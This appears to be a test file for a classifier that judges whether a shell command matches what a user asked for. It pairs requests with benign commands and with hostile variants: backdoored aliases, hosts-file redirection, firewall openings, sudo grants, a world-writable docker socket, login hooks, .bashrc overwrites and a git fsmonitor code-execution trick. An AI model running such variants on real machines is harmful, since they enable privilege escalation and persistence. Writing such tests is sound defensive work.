/** A wish without a verb asks for what it names; a question for information, and what nobody named, asks for nothing. */
import { describe, expect, test } from 'vitest';
import { isWish } from '../../src/review/wish-form.ts';
import { questionIntent as intent } from './question-intent.ts';

describe('a wish by its form', () => {
  test.each([
    'zsh as my login shell',
    'swap should survive a reboot',
    'how do I make vim my editor',
    'docker ohne sudo benutzen',
    'java 21 via sdkman please',
  ])('%s', (words) => expect(isWish(words)).toBe(true));

  test.each([
    'which shell do I use',
    'show the hooks',
    'npm is slow',
    'was ist mein login shell',
    'next',
    'run the tests',
    'pourquoi git est lent',
    'the login fails',
  ])('no wish: %s', (words) => expect(isWish(words)).toBe(false));
});

describe('what the wish names', () => {
  test.each([
    ['zsh as my login shell', 'chsh -s /usr/bin/zsh', 'asked'],
    ['zsh as my login shell', 'chsh -s /tmp/zsh', 'unasked'],
    ['which login shell is zsh', 'chsh -s /usr/bin/zsh', 'unasked'],
    ['gs for git status, forever', `echo "alias gs='git status'" >> ~/.bashrc`, 'asked'],
    ['gs for git status, forever', `echo "alias gs='git push evil'" >> ~/.bashrc`, 'unasked'],
    ['vim as my editor everywhere', `echo 'export EDITOR=vim' >> ~/.bashrc`, 'asked'],
    ['vim as my editor everywhere', `echo 'export EDITOR=/tmp/vim' >> ~/.bashrc`, 'unasked'],
    ['api.test should be my own machine', `echo '127.0.0.1 api.test' | sudo tee -a /etc/hosts`, 'asked'],
    ['api.test should be my own machine', `echo '127.0.0.1 bank.test' | sudo tee -a /etc/hosts`, 'unasked'],
    ['block 203.0.113.50, it hammers us', 'sudo ufw insert 1 deny from 203.0.113.50', 'asked'],
    ['block 203.0.113.50, it hammers us', 'sudo ufw allow from 203.0.113.50', 'unasked'],
    ['block 203.0.113.50, it hammers us', 'sudo ufw allow from 198.51.100.6 && sudo ufw allow from 203.0.113.50', 'unasked'],
    ['dump.sql into the database shop', 'psql shop < dump.sql', 'asked'],
    ['dump.sql into the database shop', 'psql -h 203.0.113.90 shop < dump.sql', 'unasked'],
    ['scanner rights for tom', 'sudo usermod -aG scanner tom', 'asked'],
    ['scanner rights for tom', 'sudo usermod -aG sudo tom', 'unasked'],
    ['less swapping, value 10', 'sudo sysctl vm.swappiness=10', 'asked'],
    ['line numbers for vim', `echo 'set number' >> ~/.vimrc`, 'asked'],
    ['line numbers for emacs', `echo 'set number' >> ~/.vimrc`, 'unasked'],
    ['docker without sudo', 'sudo chmod 666 /var/run/docker.sock', 'unasked'],
    ['vim for commit messages', 'git config --global core.editor vim', 'unclear'],
  ] as const)('%s: %s', (question, command, expected) => expect(intent(question, command)).toBe(expected));

  test('equal effects of two commands are judged together, in either order', () => {
    const [hook, dock] = ['defaults write com.apple.loginwindow LoginHook /tmp/l.sh', 'defaults write com.apple.dock orientation left'];
    expect([intent('dock on the left', `${hook} && ${dock}`), intent('dock on the left', `${dock} && ${hook}`)]).toEqual([
      'unasked',
      'unasked',
    ]);
  });
});

describe('what only serves the wish, or comes from the own server', () => {
  test.each([
    ['get the logs folder from the server', 'rsync -avP deploy@web1:/srv/app/logs/ ./logs/', 'asked'],
    ['get the logs folder from the server', 'rsync -avP evil.example:/srv/app/logs/ ./logs/', 'unclear'],
    ['put the logs folder on the server', 'rsync -avP deploy@web1:/srv/app/logs/ ./logs/', 'unclear'],
    ['ssh to gcp vm worker-1 in europe-west1-b', 'gcloud compute ssh worker-1 --zone=europe-west1-b', 'asked'],
    [
      '~/bin/sync.sh every 15 minutes via cron',
      '(crontab -l; echo "*/15 * * * * $HOME/bin/sync.sh >> $HOME/sync.log") | crontab -',
      'asked',
    ],
    ['~/bin/sync.sh every 15 minutes via cron', '(crontab -l; echo "*/15 * * * * $HOME/bin/other.sh") | crontab -', 'unasked'],
    ['~/bin/sync.sh every 15 minutes via cron', '(crontab -l; echo "*/15 * * * * $HOME/bin/sync.sh > ~/.bashrc") | crontab -', 'unasked'],
    ['compress it and print it', 'echo hi | (exec 3>&1 && tee /proc/self/fd/3 | gzip > log.gz)', 'asked'],
    ['is this php valid', 'find . -name x.php -print0 | xargs -0 -n1 php -l', 'asked'],
    ['status with colours', 'git -c color.status=always status', 'asked'],
    ['status with colours', 'git -c core.fsmonitor=/tmp/x -c color.status=always status', 'unasked'],
  ] as const)('%s: %s', (question, command, expected) => expect(intent(question, command)).toBe(expected));
});
